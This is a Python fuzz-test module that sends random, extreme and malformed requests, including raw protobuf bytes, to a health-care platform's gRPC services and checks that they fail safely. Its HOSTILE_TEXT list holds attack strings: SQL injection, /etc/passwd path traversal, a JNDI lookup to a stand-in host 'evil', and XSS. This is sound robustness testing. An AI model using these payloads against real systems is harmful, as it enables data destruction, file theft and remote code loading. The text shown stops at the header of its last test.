"""Property-based fuzzing of every public RPC of access, overview, news2 and storage over real gRPC.

The RPCs are enumerated from the generated descriptors and each request is drawn from a Hypothesis
strategy derived from its message descriptor: random and extreme field values (int limits, NaN and
infinities, huge and hostile strings, unknown enum numbers, invalid timestamps, oversized repeated
fields), either for every field at once or as one mutation of a valid request (so that calls get past
validation and reach access, storage and PostgreSQL). Serialized requests are also sent as raw bytes:
merged by concatenation, with unknown fields and nested groups, over the message limit, and bytes that
do not parse at all (invalid UTF-8 in string fields, truncations, groups nested past the parser's limit).

Every call must end OK or with a client-error status (never INTERNAL or UNKNOWN; DEADLINE_EXCEEDED only
for a subscription, which runs until the short deadline); an INVALID_ARGUMENT names the bad fields; a
rejected call stores nothing (counted as the superuser across every tenant: record versions, feed
sequences, objections, blocks); a request that fails authentication or validation is not logged as an
access decision (except a bad page token: see check_call); and every server still answers SERVING.

Bytes that do not parse end INVALID_ARGUMENT, as any other bad request."""

from __future__ import annotations

import functools
import math
import os
import random
import time
from collections import Counter
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta

import grpc
import hypothesis
import pytest
from google.protobuf import descriptor as d
from google.protobuf.message import DecodeError, Message
from google.protobuf.timestamp_pb2 import Timestamp
from hypothesis import HealthCheck, Phase, given
from hypothesis import strategies as st
from samhandling.access.v1 import access_pb2
from samhandling.news2.v1 import news2_pb2
from samhandling.overview.v1 import overview_pb2
from samhandling.storage.v1 import storage_pb2

from services.news2.adapters.assessments import ASSESSMENT_ID
from services.platform.server import max_message_bytes
from tests.hostile.support import CLIENT_ERRORS, RPCS, STREAM_FOLLOWER, Footprint, Rpc, assert_serving, invoke
from tests.support import BAERUM, BODO, bearer, person_number

NURSE_HPR = "565505933"
OTHER_HPR = "123456789"
# Patients per service, kept apart so that one service's fuzzing (an objection registered on a
# documented request, a record written straight into storage) cannot change another's outcomes.
_rng = random.Random(8_0808)
PATIENTS = {service: tuple(person_number(_rng) for _ in range(3)) for service in ("access", "clinical", "storage")}
ALL_PATIENTS = tuple(p for group in PATIENTS.values() for p in group)
# Fixed once, so that every draw of a strategy has the same bounds (Hypothesis requires it).
NOW = int(datetime.now(UTC).timestamp())
TODAY = date.today()
STREAM_DEADLINE = 0.15
UNARY_DEADLINE = 15.0
MAX_EXAMPLES = 60
MAX_STREAM_EXAMPLES = 30
MAX_RAW_EXAMPLES = 25


# CI runs the same examples every time. To hunt for more, run with e.g. HOSTILE_FUZZ_SCALE=20 and
# HOSTILE_FUZZ_RANDOM=1 (new examples each run; a failure prints its reproduction).
FUZZ_SCALE = float(os.environ.get("HOSTILE_FUZZ_SCALE", "1"))
FUZZ_RANDOM = os.environ.get("HOSTILE_FUZZ_RANDOM") == "1"


def fuzz_settings(max_examples: int) -> hypothesis.settings:
    return hypothesis.settings(
        max_examples=max(1, round(max_examples * FUZZ_SCALE)),
        deadline=None,
        derandomize=not FUZZ_RANDOM,
        database=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
        # A failing call is reported as drawn; shrinking it would cost a round trip per step.
        phases=[Phase.explicit, Phase.generate],
        print_blob=False,
    )


def _patient_group(rpc: Rpc) -> tuple[str, ...]:
    return PATIENTS["clinical" if rpc.service in ("overview", "news2") else rpc.service]


# ---------------------------------------------------------------------------------------------
# Values: generic by protobuf type, with hostile extremes, and hints by field name that make
# valid-looking values likely (so validation passes often enough to reach the deeper layers).

HOSTILE_TEXT = [
    "",
    " ",
    "\x00",
    "\t\n\r",
    "\u202e\u200b\ufeff",
    "ﷺ𒐫",
    "😀" * 20,
    "'; DROP TABLE record_versions; --",
    "%s%s%n%x",
    "../../../../etc/passwd",
    "${jndi:ldap://evil/x}",
    "<script>alert(1)</script>",
    "\u0661\u0668\u0660\u0664",  # Arabic-Indic digits
    "\uff11\uff18\uff10\uff14",  # full-width digits
    "NaN",
    "-0",
    "1e309",
]
# Past each text limit (128, 200, 500) and far past. (Past the message limit: see the test of oversized
# messages below; each costs a few hundred milliseconds on the wire.)
HUGE_SIZES = [129, 201, 501, 70_000, 300_000]
LONG_SIZES = [129, 201, 501]


def text(huge: bool = True) -> st.SearchStrategy[str]:
    """Any text; `huge` allows megabytes (not inside repeated fields, which multiply it)."""
    sizes = st.sampled_from(HUGE_SIZES if huge else LONG_SIZES)
    return st.one_of(
        st.text(max_size=30),
        st.sampled_from(HOSTILE_TEXT),
        sizes.map(lambda n: "x" * n),
        st.builds(lambda ch, n: ch * n, st.sampled_from(["é", "\x00", "9", "ẞ"]), sizes),
    )


def _int_range(field: d.FieldDescriptor) -> tuple[int, int]:
    if field.type in (d.FieldDescriptor.TYPE_INT32, d.FieldDescriptor.TYPE_SINT32, d.FieldDescriptor.TYPE_SFIXED32):
        return -(2**31), 2**31 - 1
    if field.type in (d.FieldDescriptor.TYPE_UINT32, d.FieldDescriptor.TYPE_FIXED32):
        return 0, 2**32 - 1
    if field.type in (d.FieldDescriptor.TYPE_UINT64, d.FieldDescriptor.TYPE_FIXED64):
        return 0, 2**64 - 1
    return -(2**63), 2**63 - 1


def integers(low: int, high: int) -> st.SearchStrategy[int]:
    edges = [
        v for v in (0, 1, -1, 2, 100, 200, 201, 500, 501, 1000, 1001, 2**31 - 1, 2**31, 2**53 + 1) if low <= v <= high
    ]
    return st.one_of(
        st.sampled_from(sorted({low, high, *edges})),
        st.integers(low, high),
        st.integers(-5, 5).filter(lambda v: low <= v <= high),
    )


def doubles() -> st.SearchStrategy[float]:
    return st.one_of(
        st.floats(allow_nan=True, allow_infinity=True),
        st.sampled_from([math.nan, math.inf, -math.inf, -0.0, 5e-324, 1.7976931348623157e308, 2**63, -(2**63)]),
        st.floats(0, 400, allow_nan=False).map(lambda v: round(v, 2)),
    )


def timestamps() -> st.SearchStrategy[Timestamp]:
    now = NOW

    def stamp(seconds: int, nanos: int) -> Timestamp:
        return Timestamp(seconds=seconds, nanos=nanos)

    return st.one_of(
        st.builds(stamp, st.integers(now - 30 * 86400, now - 60), st.integers(0, 999_999_999)),
        st.builds(
            stamp,
            st.sampled_from(
                [0, -1, now + 86400, -62_135_596_800, -62_135_596_801, 253_402_300_799, 253_402_300_800, 2**63 - 1]
            ),
            st.sampled_from([0, -1, 999_999_999, 1_000_000_000, 2**31 - 1, -(2**31)]),
        ),
    )


def valid_person_numbers() -> st.SearchStrategy[str]:
    return st.integers(0, 2**32).map(lambda seed: person_number(random.Random(seed)))


def invalid_person_numbers(huge: bool) -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(
            [
                "",
                "00000000000",
                "12345678901",
                "2275088490",
                "227508849070",
                "22750884907 ",
                "\u0662\u0662\u0667\u0665\u0660\u0668\u0668\u0664\u0669\u0660\u0667",
            ]
        ),
        valid_person_numbers().map(lambda p: p[:10] + str((int(p[10]) + 1) % 10)),
        text(huge),
    )


def page_tokens(huge: bool) -> st.SearchStrategy[str]:
    import base64
    import json

    def b64(raw: bytes) -> str:
        return base64.urlsafe_b64encode(raw).decode()

    crafted = (
        [
            b64(json.dumps({"after": value}).encode())
            for value in (-1, 0, 2**31, 2**63, 1e309, "", "k", "x" * 300, None, [], {}, True, "..", "\x00")
        ]
        + [b64(f"before:{value}".encode()) for value in (-5, 0, 1, 2**63, "x", "")]
        + [
            b64(b"\xff\xfe"),
            "!!!",
            "=",
            "e30=",
            b64(b'{"after": 1'),
        ]
    )
    return st.one_of(st.just(""), st.sampled_from(crafted), text(huge))


def dates(huge: bool) -> st.SearchStrategy[str]:
    today = TODAY
    return st.one_of(
        st.dates(today - timedelta(days=400), today + timedelta(days=100)).map(date.isoformat),
        st.dates().map(date.isoformat),
        st.sampled_from(
            [
                "",
                "2026-02-30",
                "2026-13-01",
                "0000-01-01",
                "9999-12-31",
                "26-01-01",
                "2026-1-1",
                "2026-01-01T00:00:00Z",
                "+2026-01-01",
                "-001-01-01",
                "\u0662\u0660\u0662\u0666-\u0660\u0661-\u0660\u0661",
            ]
        ),
        text(huge),
    )


class Hints(dict):
    """Strategies by field name for one RPC's requests; `small()` is the same without megabyte values."""

    def __init__(self, rpc: Rpc, huge: bool) -> None:
        super().__init__(_by_name(rpc, huge))
        self.rpc, self.huge = rpc, huge

    def small(self) -> Hints:
        return hints_for(self.rpc, huge=False)


@functools.cache
def hints_for(rpc: Rpc, huge: bool = True) -> Hints:
    return Hints(rpc, huge)


def _by_name(rpc: Rpc, huge: bool) -> dict[str, st.SearchStrategy]:
    patients = _patient_group(rpc)
    return {
        "patient_id": st.one_of(
            st.sampled_from(patients), st.sampled_from(patients), valid_person_numbers(), invalid_person_numbers(huge)
        ),
        "tenant": st.one_of(
            st.sampled_from(["", "", BODO, BODO, BAERUM, "0301", "0000", "9999", "18O4", " 1804"]), text(huge)
        ),
        "hpr_number": st.one_of(
            st.sampled_from([NURSE_HPR, OTHER_HPR, "1", "0", "1234567890", "56550593a"]), text(huge)
        ),
        "idempotency_key": st.one_of(st.uuids().map(str), st.sampled_from(["k" * 128, "k" * 129, "a b"]), text(huge)),
        "kind": st.one_of(
            st.sampled_from(
                [
                    "overview.services",
                    "news2.assessment",
                    "test.fuzz",
                    "a.b",
                    "A.B",
                    "a",
                    "a." + "b" * 63,
                    "a." + "b" * 62,
                ]
            ),
            text(huge),
        ),
        "kinds": st.one_of(
            st.lists(st.sampled_from(["test.fuzz", "news2.assessment", "Bad"]), max_size=3),
            st.just(["a.b"] * 51),
            st.lists(text(huge), max_size=3),
        ),
        "key": st.one_of(st.sampled_from(["k1", "k2", "a/b:c@d", "-k", "k" * 200, "k" * 201, ".."]), text(huge)),
        "page_token": page_tokens(huge),
        "start_date": dates(huge),
        "end_date": dates(huge),
        "service_type_code": st.one_of(
            st.sampled_from(["1", "01", "001", "6", "15", "0", "-1", "99999", "1.0"]), text(huge)
        ),
        "assessment_id": st.one_of(st.from_regex(ASSESSMENT_ID, fullmatch=True), text(huge)),
        "content_type": st.one_of(
            st.sampled_from(
                ["application/json", "text/plain; charset=utf-8", "a/b", "application/json; " + "x" * 200, "/"]
            ),
            text(huge),
        ),
        "weekly_extent": st.one_of(
            st.sampled_from(
                ["5 timer", "15 minutter", "7.5", "1e309 timer", "-5 timer", "NaN", "inf", "9" * 400 + " timer", "0,5"]
            ),
            text(huge),
        ),
        "source_system": st.one_of(st.sampled_from(["dev-ehr", "home-care-ehr", "", "x" * 201]), text(huge)),
        "documented_request": st.one_of(st.sampled_from(["journal note 2026-11-26/17", "", " "]), text(huge)),
        "data": st.one_of(
            st.binary(max_size=64),
            st.sampled_from([b"{}", b"\xff\xfe\xfd", b'{"services": [', b"null", b"[]", b"\xed\xa0\x80"]),
            st.sampled_from([1024 * 1024, 1024 * 1024 + 1] if huge else [1000]).map(lambda n: b"\x00" * n),
        ),
    }


def scalar(field: d.FieldDescriptor, hints: Hints) -> st.SearchStrategy:
    if field.name in hints and not field.is_repeated:
        return hints[field.name]
    kind = field.type
    if kind == d.FieldDescriptor.TYPE_STRING:
        return text(hints.huge)
    if kind == d.FieldDescriptor.TYPE_BYTES:
        return st.one_of(st.binary(max_size=64), st.just(b"\xff" * 3))
    if kind == d.FieldDescriptor.TYPE_BOOL:
        return st.booleans()
    if kind in (d.FieldDescriptor.TYPE_DOUBLE, d.FieldDescriptor.TYPE_FLOAT):
        values = doubles()
        return values if kind == d.FieldDescriptor.TYPE_DOUBLE else values.filter(lambda v: not abs(v) > 3.4e38)
    if kind == d.FieldDescriptor.TYPE_ENUM:
        known = [value.number for value in field.enum_type.values]
        return st.one_of(st.sampled_from(known), st.sampled_from([-1, max(known) + 1, 2**31 - 1, -(2**31)]))
    return integers(*_int_range(field))


def value_strategy(field: d.FieldDescriptor, hints: Hints, depth: int) -> st.SearchStrategy:
    """A value for `field` as a whole: a list for a repeated field."""
    if field.is_repeated and field.name in hints:
        return hints[field.name]

    def element(hints: Hints) -> st.SearchStrategy:
        if field.type == d.FieldDescriptor.TYPE_MESSAGE:
            return message_strategy(field.message_type, hints, depth + 1)
        return scalar(field, hints)

    if not field.is_repeated:
        return element(hints)
    return st.one_of(
        st.lists(element(hints.small()), max_size=3),
        # Oversized repeated fields: the same element many times (cheap to draw, large on the wire).
        st.builds(lambda item, n: [item] * n, element(hints.small()), st.sampled_from([201, 1000])),
    )


def message_strategy(descriptor: d.Descriptor, hints: Hints, depth: int = 0) -> st.SearchStrategy[Message]:
    if descriptor.full_name == Timestamp.DESCRIPTOR.full_name:
        return timestamps()
    cls = _message_class(descriptor)
    if depth > 4:
        return st.just(cls())
    fields = {field.name: st.one_of(st.none(), value_strategy(field, hints, depth)) for field in descriptor.fields}
    return st.fixed_dictionaries(fields).map(lambda values: _build(cls, values))


def _message_class(descriptor: d.Descriptor) -> type[Message]:
    from google.protobuf import message_factory

    return message_factory.GetMessageClass(descriptor)


def _build(cls: type[Message], values: dict) -> Message:
    message = cls()
    for name, value in values.items():
        _assign(message, message.DESCRIPTOR.fields_by_name[name], value)
    return message


def _assign(message: Message, field: d.FieldDescriptor, value) -> None:
    if value is None:
        message.ClearField(field.name)
    elif field.is_repeated:
        message.ClearField(field.name)
        getattr(message, field.name).extend(value)
    elif field.type == d.FieldDescriptor.TYPE_MESSAGE:
        getattr(message, field.name).CopyFrom(value)
    else:
        setattr(message, field.name, value)


# ---------------------------------------------------------------------------------------------
# Near-valid requests: a valid request per RPC with one field (at any depth) replaced or cleared.


def _ago(minutes: int) -> Timestamp:
    stamp = Timestamp()
    stamp.FromDatetime(datetime.now(UTC).replace(microsecond=0) - timedelta(minutes=minutes))
    return stamp


def _vitals() -> news2_pb2.VitalSigns:
    return news2_pb2.VitalSigns(
        respiratory_rate=22,
        spo2=95,
        on_oxygen=False,
        systolic_bp=105,
        pulse=112,
        consciousness=news2_pb2.CONSCIOUSNESS_ALERT,
        temperature=38.4,
        measured_at=_ago(60),
    )


def _service() -> overview_pb2.MunicipalService:
    return overview_pb2.MunicipalService(
        service_type_code="15",
        start_date=(date.today() - timedelta(days=20)).isoformat(),
        weekly_extent="5 timer",
        description="Hjemmetjeneste - sårstell",
        responsible_unit=overview_pb2.Unit(name="Hjemmesykepleien sone sør", phone="75555000"),
    )


Template = Callable[[str, str], Message]  # (patient, nonce) -> a valid request
TEMPLATES: dict[str, Template] = {
    "access.Authorize": lambda p, n: access_pb2.AuthorizeRequest(
        patient_id=p, data_kind=access_pb2.DATA_KIND_SERVICES_OVERVIEW, action=access_pb2.ACTION_READ
    ),
    "access.RegisterObjection": lambda p, n: access_pb2.RegisterObjectionRequest(
        patient_id=p, documented_request=f"note {n}"
    ),
    "access.WithdrawObjection": lambda p, n: access_pb2.WithdrawObjectionRequest(
        patient_id=p, documented_request=f"note {n}"
    ),
    "access.BlockPractitioner": lambda p, n: access_pb2.BlockPractitionerRequest(
        patient_id=p, hpr_number=OTHER_HPR, documented_request=f"note {n}"
    ),
    "access.UnblockPractitioner": lambda p, n: access_pb2.UnblockPractitionerRequest(
        patient_id=p, hpr_number=OTHER_HPR, documented_request=f"note {n}"
    ),
    "access.GetConsent": lambda p, n: access_pb2.GetConsentRequest(patient_id=p),
    "access.ListAccessLog": lambda p, n: access_pb2.ListAccessLogRequest(patient_id=p, page_size=5),
    "access.VerifyAccessLog": lambda p, n: access_pb2.VerifyAccessLogRequest(),
    "access.WatchFollowUps": lambda p, n: access_pb2.WatchFollowUpsRequest(from_sequence=2**40),
    "overview.SubmitServices": lambda p, n: overview_pb2.SubmitServicesRequest(
        patient_id=p, services=[_service()], idempotency_key=n
    ),
    "overview.GetOverview": lambda p, n: overview_pb2.GetOverviewRequest(patient_id=p),
    "overview.CountActiveServices": lambda p, n: overview_pb2.CountActiveServicesRequest(patient_id=p),
    "overview.WatchOverviews": lambda p, n: overview_pb2.WatchOverviewsRequest(from_sequence=2**40),
    "overview.ExportOverview": lambda p, n: overview_pb2.ExportOverviewRequest(patient_id=p),
    "overview.ListSubmissions": lambda p, n: overview_pb2.ListSubmissionsRequest(patient_id=p, page_size=5),
    "news2.ScoreVitalSigns": lambda p, n: news2_pb2.ScoreVitalSignsRequest(vital_signs=_vitals()),
    "news2.RecordVitalSigns": lambda p, n: news2_pb2.RecordVitalSignsRequest(
        patient_id=p, vital_signs=_vitals(), idempotency_key=n
    ),
    "news2.ListAssessments": lambda p, n: news2_pb2.ListAssessmentsRequest(patient_id=p, page_size=5),
    "news2.WatchAlerts": lambda p, n: news2_pb2.WatchAlertsRequest(from_sequence=2**40),
    "news2.ExportAssessment": lambda p, n: news2_pb2.ExportAssessmentRequest(
        patient_id=p, assessment_id="20261126T101500.000000Z-" + "0" * 32
    ),
    "storage.PutRecord": lambda p, n: storage_pb2.PutRecordRequest(
        tenant=BODO,
        patient_id=p,
        kind="test.fuzz",
        key="k1",
        idempotency_key=n,
        payload=storage_pb2.Payload(data=b'{"n": 1}', content_type="application/json"),
    ),
    "storage.GetRecord": lambda p, n: storage_pb2.GetRecordRequest(
        tenant=BODO, patient_id=p, kind="test.fuzz", key="k1"
    ),
    "storage.ListRecordVersions": lambda p, n: storage_pb2.ListRecordVersionsRequest(
        tenant=BODO, patient_id=p, kind="test.fuzz", key="k1", page_size=2
    ),
    "storage.ListRecords": lambda p, n: storage_pb2.ListRecordsRequest(
        tenant=BODO, patient_id=p, kind="test.fuzz", page_size=2
    ),
    "storage.Watch": lambda p, n: storage_pb2.WatchRequest(tenant=BODO, from_sequence=2**40, kinds=["test.fuzz"]),
}


def field_paths(descriptor: d.Descriptor, prefix: tuple[str, ...] = (), depth: int = 0) -> list[tuple[str, ...]]:
    paths = []
    for field in descriptor.fields:
        paths.append((*prefix, field.name))
        nested = field.type == d.FieldDescriptor.TYPE_MESSAGE
        if nested and depth < 2 and field.message_type.full_name != Timestamp.DESCRIPTOR.full_name:
            paths += field_paths(field.message_type, (*prefix, field.name), depth + 1)
    return paths


def _leaf(descriptor: d.Descriptor, path: tuple[str, ...]) -> d.FieldDescriptor:
    for name in path[:-1]:
        descriptor = descriptor.fields_by_name[name].message_type
    return descriptor.fields_by_name[path[-1]]


def _mutate(message: Message, path: tuple[str, ...], value) -> Message:
    target = message
    for name in path[:-1]:
        field = target.DESCRIPTOR.fields_by_name[name]
        if field.is_repeated:
            container = getattr(target, name)
            target = container[0] if len(container) else container.add()
        else:
            target = getattr(target, name)
    _assign(target, target.DESCRIPTOR.fields_by_name[path[-1]], value)
    return message


def near_valid(rpc: Rpc, hints: Hints) -> st.SearchStrategy[Message] | None:
    template = TEMPLATES.get(str(rpc))
    if template is None:
        return None
    valid = st.builds(template, st.sampled_from(_patient_group(rpc)), st.uuids().map(str))
    mutations = [
        st.tuples(st.just(path), st.one_of(st.none(), value_strategy(_leaf(rpc.method.input_type, path), hints, 1)))
        for path in field_paths(rpc.method.input_type)
    ]
    mutation = st.one_of(st.none(), *mutations)
    return st.builds(lambda message, change: message if change is None else _mutate(message, *change), valid, mutation)


@functools.cache
def requests(rpc: Rpc) -> st.SearchStrategy[Message]:
    hints = hints_for(rpc)
    generic = message_strategy(rpc.method.input_type, hints)
    close = near_valid(rpc, hints)
    return generic if close is None else st.one_of(close, close, generic)


# ---------------------------------------------------------------------------------------------
# Callers: mostly a clinician whose attestation names every fuzzed patient, so that validation and
# the access rules — not authentication — are what the fuzzing exercises.

ROLES = ["clinician"] * 5 + ["feed", "privacy_officer", "citizen", "btg", "other_tenant", "coc"]
# The caller that may use an RPC when it is not a clinician: drawn as often as all the others together.
ENTITLED = {
    "access.WithdrawObjection": "privacy_officer",
    "access.UnblockPractitioner": "privacy_officer",
    "access.ListAccessLog": "privacy_officer",
    "access.WatchFollowUps": "privacy_officer",
    "overview.WatchOverviews": "feed",
    "news2.WatchAlerts": "feed",
}


@functools.cache
def roles(rpc: Rpc) -> st.SearchStrategy[str]:
    entitled = ENTITLED.get(str(rpc))
    # First: Hypothesis draws the first element most often (it is the "simplest").
    return st.sampled_from([entitled] * len(ROLES) + ROLES if entitled else ROLES)


@pytest.fixture(scope="module")
def tokens(mint) -> dict[str, tuple[tuple[str, str], ...]]:
    def clinician(tenant: str = BODO, purpose: str = "TREAT") -> str:
        return mint(
            tenant, client_id="fuzz-ehr", hpr_number=NURSE_HPR, purpose_of_use=purpose, patient_ids=ALL_PATIENTS
        )

    minted = {
        "clinician": clinician(),
        "btg": clinician(purpose="BTG"),
        "coc": clinician(purpose="COC"),
        "other_tenant": clinician(BAERUM),
        "feed": mint(BODO, client_id="fuzz-forwarder", feed=True),
        # The same, for subscriptions (see STREAM_FOLLOWER).
        "stream_feed": mint(BODO, client_id=STREAM_FOLLOWER, feed=True),
        "privacy_officer": mint(BODO, client_id="privacy-portal", privacy_officer=True),
        "citizen": mint(BODO, citizen_id=PATIENTS["access"][0]),
    }
    return Callers({role: bearer(token) for role, token in minted.items()})


class Callers(dict):
    """Call metadata by role; its repr stays short in Hypothesis' report of a failing example."""

    def __repr__(self) -> str:
        return f"<bearer tokens for {', '.join(self)}>"

    def of(self, rpc: Rpc, role: str) -> tuple[tuple[str, str], ...]:
        return self["stream_feed" if rpc.streaming and role == "feed" else role]


@pytest.fixture
async def still_serving(channels):
    yield
    await assert_serving(channels)


class Shown:
    """A drawn value whose repr in a failure report stays readable (values can be megabytes)."""

    LIMIT = 3000

    def __init__(self, value) -> None:
        self.value = value

    def __repr__(self) -> str:
        text = repr(self.value) if isinstance(self.value, bytes) else str(self.value)
        return text if len(text) <= self.LIMIT else f"{text[: self.LIMIT]}... ({len(text)} characters)"


@functools.cache
def shown(strategy: st.SearchStrategy) -> st.SearchStrategy[Shown]:
    return strategy.map(Shown)


UNARY_RPCS = [rpc for rpc in RPCS if not rpc.streaming]
STREAM_RPCS = [rpc for rpc in RPCS if rpc.streaming]


# How the calls ended, per RPC and status: printed at the end with HOSTILE_FUZZ_REPORT=1.
OUTCOMES: Counter[tuple[str, str]] = Counter()


@pytest.fixture(scope="module", autouse=True)
def outcome_report():
    yield
    if os.environ.get("HOSTILE_FUZZ_REPORT") == "1":
        print(f"\n{sum(OUTCOMES.values())} fuzzed calls")
        for rpc in RPCS:
            counts = {code: n for (name, code), n in sorted(OUTCOMES.items()) if name == str(rpc)}
            print(f"  {rpc!s:32} {counts}")


def assert_nothing_stored(rpc: Rpc, before: Footprint, after: Footprint) -> None:
    """No data, and no access decision logged either."""
    assert after.data == before.data, f"{rpc}: a refused call stored something"
    assert after.access_log == before.access_log, f"{rpc}: a refused call was logged as a decision"


async def check_call(rpc: Rpc, request: Message | bytes, metadata, channels, ledger) -> None:
    before = await ledger.footprint()
    deadline = STREAM_DEADLINE if rpc.streaming else UNARY_DEADLINE
    started = time.monotonic()
    outcome = await invoke(channels[rpc.service], rpc, request, metadata, timeout=deadline)
    OUTCOMES[str(rpc), outcome.code.name] += 1
    if rpc.streaming and outcome.code == grpc.StatusCode.UNAVAILABLE and time.monotonic() - started >= deadline * 0.8:
        # Known, and not ours to fix here: a subscription that calls peers (overview's feed calls storage and
        # access) passes the caller's deadline on to them; when they hit it a moment before the caller's own
        # timer fires, services/platform/peer_errors.py reports their DEADLINE_EXCEEDED as UNAVAILABLE ("the
        # access service is unavailable; retry later"). About one in ten streams at a 50 ms deadline.
        outcome.code = grpc.StatusCode.DEADLINE_EXCEEDED
    allowed = CLIENT_ERRORS | {grpc.StatusCode.OK} | ({grpc.StatusCode.DEADLINE_EXCEEDED} if rpc.streaming else set())
    assert outcome.code in allowed, f"{rpc}: {outcome.describe()}"
    if outcome.code in (grpc.StatusCode.OK, grpc.StatusCode.DEADLINE_EXCEEDED):
        return
    if outcome.code == grpc.StatusCode.INVALID_ARGUMENT:
        assert outcome.violations, f"{rpc}: INVALID_ARGUMENT without field violations: {outcome.describe()}"
    after = await ledger.footprint()
    assert after.data == before.data, f"{rpc}: a rejected call ({outcome.describe()}) stored something"
    if outcome.code in (grpc.StatusCode.INVALID_ARGUMENT, grpc.StatusCode.UNAUTHENTICATED):
        # A request is validated before access decides on it, so a bad one is not logged as an access; the
        # exception is a page token, which overview and news2 pass on to storage unread (it is storage's),
        # so storage rejects it after the read was decided and logged.
        if {field for field, _ in outcome.violations} != {"page_token"}:
            assert after.access_log == before.access_log, f"{rpc}: {outcome.code.name} was logged as a decision"


@pytest.mark.parametrize("rpc", UNARY_RPCS, ids=str)
@fuzz_settings(MAX_EXAMPLES)
@given(data=st.data())
async def test_fuzzed_requests_end_in_a_client_status_and_a_rejected_one_stores_nothing(
    rpc, data, tokens, channels, ledger, still_serving
):
    request = data.draw(shown(requests(rpc)), label="request").value
    role = data.draw(roles(rpc), label="role")
    await check_call(rpc, request, tokens.of(rpc, role), channels, ledger)


@pytest.mark.parametrize("rpc", STREAM_RPCS, ids=str)
@fuzz_settings(MAX_STREAM_EXAMPLES)
@given(data=st.data())
async def test_fuzzed_subscriptions_end_in_a_client_status_or_run_until_the_deadline(
    rpc, data, tokens, channels, ledger, still_serving
):
    request = data.draw(shown(requests(rpc)), label="request").value
    role = data.draw(roles(rpc), label="role")
    await check_call(rpc, request, tokens.of(rpc, role), channels, ledger)


# ---------------------------------------------------------------------------------------------
# Raw bytes as the serialized request.


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte, value = value & 0x7F, value >> 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def _string_field(number: int, payload: bytes) -> bytes:
    return _varint(number << 3 | 2) + _varint(len(payload)) + payload


def _unknown_field() -> st.SearchStrategy[bytes]:
    """A well-formed field that no contract declares (a newer client's, or an attacker's)."""
    number = st.integers(1000, 2**29 - 1)
    return st.one_of(
        st.builds(lambda n, v: _varint(n << 3 | 0) + _varint(v), number, st.integers(0, 2**64 - 1)),
        st.builds(lambda n, b: _string_field(n, b), number, st.binary(max_size=40)),
        st.builds(lambda n, b: _varint(n << 3 | 1) + b, number, st.binary(min_size=8, max_size=8)),
        st.builds(lambda n, b: _varint(n << 3 | 5) + b, number, st.binary(min_size=4, max_size=4)),
        # Groups nested 50 deep: legal, and within the parser's recursion limit.
        st.builds(lambda n: _varint(n << 3 | 3) * 50 + _varint(n << 3 | 4) * 50, number),
    )


@functools.cache
def wire_requests(rpc: Rpc) -> st.SearchStrategy[bytes]:
    """Bytes that parse as the request, built the ways a message object would not build them: two
    serialized requests merged by concatenation (a field given twice, the last value winning, repeated
    fields joined), unknown fields before and after."""
    serialized = requests(rpc).map(lambda message: message.SerializeToString())
    return st.builds(
        lambda before, first, second, after: b"".join(before) + first + second + b"".join(after),
        st.lists(_unknown_field(), max_size=2),
        serialized,
        st.one_of(st.just(b""), serialized),
        st.lists(_unknown_field(), max_size=2),
    )


def malformed_wire_messages(rpc: Rpc) -> dict[str, bytes]:
    """Bytes that do not parse as the request."""
    fields = rpc.method.input_type.fields
    # A string field; for a request without one, a message field (its bytes are parsed as a message).
    kinds = (d.FieldDescriptor.TYPE_STRING, d.FieldDescriptor.TYPE_MESSAGE)
    first_string = next(field.number for kind in kinds for field in fields if field.type == kind)
    return {
        "invalid UTF-8 in a string field": _string_field(first_string, b"\xff\xfe\xfd"),
        "an encoded surrogate in a string field": _string_field(first_string, b"\xed\xa0\x80"),
        "an overlong encoding in a string field": _string_field(first_string, b"\xc0\xaf"),
        "a length far past the end": _varint(first_string << 3 | 2) + _varint(2**40),
        "a varint longer than ten bytes": _varint(first_string << 3 | 0) + b"\xff" * 11,
        "groups nested 200 deep": _varint(99 << 3 | 3) * 200 + _varint(99 << 3 | 4) * 200,
        "a group that never ends": _varint(7 << 3 | 3),
        "field number 0": _varint(0) + _varint(1),
        "a truncated fixed32": _varint(first_string << 3 | 5) + b"\x00",
        "random bytes": bytes.fromhex("bd9ec8bbf8eda3e4411373"),
    }


@pytest.mark.parametrize("rpc", RPCS, ids=str)
@fuzz_settings(MAX_RAW_EXAMPLES)
@given(data=st.data())
async def test_raw_wire_requests_end_in_a_client_status(rpc, data, tokens, channels, ledger, still_serving):
    raw = data.draw(shown(st.one_of(wire_requests(rpc), st.binary(max_size=300))), label="bytes").value
    role = data.draw(roles(rpc), label="role")
    try:
        rpc.request_class.FromString(raw)
    except DecodeError:
        # Not a request at all: refused before any service code runs, storing nothing.
        before = await ledger.footprint()
        outcome = await invoke(channels[rpc.service], rpc, raw, tokens.of(rpc, role), timeout=UNARY_DEADLINE)
        OUTCOMES[str(rpc), outcome.code.name] += 1
        assert outcome.code in CLIENT_ERRORS, f"{rpc}: {outcome.describe()}"
        assert_nothing_stored(rpc, before, await ledger.footprint())
        return
    await check_call(rpc, raw, tokens.of(rpc, role), channels, ledger)


@pytest.mark.parametrize("rpc", RPCS, ids=str)
async def test_a_request_over_the_message_limit_is_resource_exhausted(rpc, tokens, channels, ledger, settings):
    # An unknown field carries the bulk, so that every request type can be made too large.
    request = _string_field(9999, b"x" * (max_message_bytes(settings.max_payload_bytes) + 1))
    before = await ledger.footprint()
    outcome = await invoke(channels[rpc.service], rpc, request, tokens["clinician"])
    assert outcome.code == grpc.StatusCode.RESOURCE_EXHAUSTED, outcome.describe()
    assert_nothing_stored(rpc, before, await ledger.footprint())
    await assert_serving(channels)


@pytest.mark.parametrize("rpc", RPCS, ids=str)
async def test_malformed_wire_bytes_are_refused_store_nothing_and_leave_the_servers_serving(
    rpc, tokens, channels, ledger
):
    before = await ledger.footprint()
    for case, raw in malformed_wire_messages(rpc).items():
        with pytest.raises(DecodeError):
            rpc.request_class.FromString(raw)
        outcome = await invoke(channels[rpc.service], rpc, raw, tokens["clinician"], timeout=STREAM_DEADLINE * 4)
        assert not outcome.ok and not outcome.responses, f"{rpc}, {case}: {outcome.describe()}"
    assert_nothing_stored(rpc, before, await ledger.footprint())
    await assert_serving(channels)


@pytest.mark.parametrize("rpc", RPCS, ids=str)
async def test_malformed_wire_bytes_are_invalid_argument(rpc, tokens, channels):
